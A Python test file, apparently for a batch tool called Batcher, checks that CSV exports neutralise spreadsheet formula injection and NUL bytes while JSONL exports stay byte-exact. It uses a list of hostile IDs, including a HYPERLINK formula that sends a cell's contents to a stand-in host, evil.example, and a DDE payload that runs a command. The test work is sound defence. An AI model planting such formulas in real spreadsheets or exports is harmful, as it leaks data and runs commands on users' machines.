"""Issue 16, item 3: CSV exports never hand a spreadsheet a formula (OWASP CSV injection); a NUL
never makes a CSV that Batcher itself refuses; JSONL exports stay byte-exact."""

from __future__ import annotations

import csv
import json
import re
import time
from pathlib import Path

import orjson

from batcher_gui.storage import open_store
from tests.cli.conftest import Cli

#: custom_ids a spreadsheet would run, or that break a CSV file, and harmless ones.
HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab first",
    "\rCR first",
    "nul\0inside",
    "-5",
    "plain",
]
#: What a spreadsheet treats as the start of a formula (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _hostile_jsonl(path: Path) -> Path:
    with path.open("wb") as fh:
        for cid in HOSTILE_IDS:
            fh.write(orjson.dumps({
                "custom_id": cid, "method": "POST", "url": "/v1/chat/completions",
                "body": {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "q"}]},
            }) + b"\n")
    return path


def _answer_everything(ws: Path) -> None:
    """The provider answered each prompt with text a spreadsheet would run (and one NUL)."""
    store = open_store(ws / "batcher.sqlite3")
    try:
        with store.db.write() as conn:
            ids = [r[0] for r in conn.exec_driver_sql("SELECT id FROM prompts ORDER BY id")]
            for n, pid in enumerate(ids):
                text = ["=1+1", "- a list item", "@me", "answer\0with a NUL"][n % 4]
                body = orjson.dumps({"object": "chat.completion", "choices": [
                    {"message": {"role": "assistant", "content": text}}]})
                conn.exec_driver_sql(
                    "UPDATE prompts SET state = 'processed', response = ?, error = ?, "
                    "input_tokens = 3, output_tokens = 1, updated_at = ? WHERE id = ?",
                    (body, "=2+2" if n == 0 else None, time.time(), pid))
    finally:
        store.db.close()


def _assert_no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert "\0" not in cell
        assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), repr(cell)


def neutral(text: str) -> str:
    """What the CSV holds for ``text``."""
    text = text.replace("\0", "\ufffd")
    return "'" + text if text.startswith(FORMULA_START) and not NUMBER.fullmatch(text) else text


def test_csv_exports_neutralize_formulas_and_read_back_into_batcher(
        cli: Cli, tmp_path: Path) -> None:
    cli.ok("import", str(_hostile_jsonl(tmp_path / "hostile.jsonl")))
    _answer_everything(cli.ws)
    out = tmp_path / "out.csv"
    cli.ok("export", "1", "--out", str(out))

    raw = out.read_bytes()
    assert b"\0" not in raw
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["custom_id"] for r in rows] == [neutral(c) for c in HOSTILE_IDS]
    assert rows[0]["custom_id"].startswith("'=HYPERLINK(")  # the text is kept after the quote
    assert rows[8]["custom_id"] == "-5" and rows[9]["custom_id"] == "plain"  # not formulas
    assert [r["output_text"] for r in rows[:4]] == [
        "'=1+1", "'- a list item", "'@me", "answer\ufffdwith a NUL"]
    assert rows[0]["error"] == "'=2+2"
    for row in rows:
        _assert_no_formula(list(row.values()))

    # Batcher's own CSV reader takes the file back: the custom_ids are the cells' text.
    again = cli.ok("import", str(out), "--template", "{output_text}", "--model", "gpt-4o-mini",
                   "--name", "again")
    assert "Imported 10 prompts as run #2" in again.stdout
    back = tmp_path / "back.jsonl"
    cli.ok("export", "again", "--out", str(back))
    lines = [json.loads(x) for x in back.read_text(encoding="utf-8").splitlines()]
    assert [x["custom_id"] for x in lines] == [neutral(c) for c in HOSTILE_IDS]
    assert lines[0]["request"]["body"]["messages"][0]["content"] == "'=1+1"


def test_jsonl_exports_keep_every_value_byte_exact(cli: Cli, tmp_path: Path) -> None:
    cli.ok("import", str(_hostile_jsonl(tmp_path / "hostile.jsonl")))
    _answer_everything(cli.ws)
    out = tmp_path / "out.jsonl"
    cli.ok("export", "1", "--out", str(out))
    raw = out.read_bytes()
    lines = [json.loads(x) for x in raw.splitlines()]
    assert [x["custom_id"] for x in lines] == HOSTILE_IDS
    assert lines[0]["error"] == "=2+2"
    assert [x["response"]["choices"][0]["message"]["content"] for x in lines[:4]] == [
        "=1+1", "- a list item", "@me", "answer\0with a NUL"]
    for cid in HOSTILE_IDS:  # as orjson writes them, nothing added or escaped differently
        assert orjson.dumps({"custom_id": cid})[1:-1] in raw
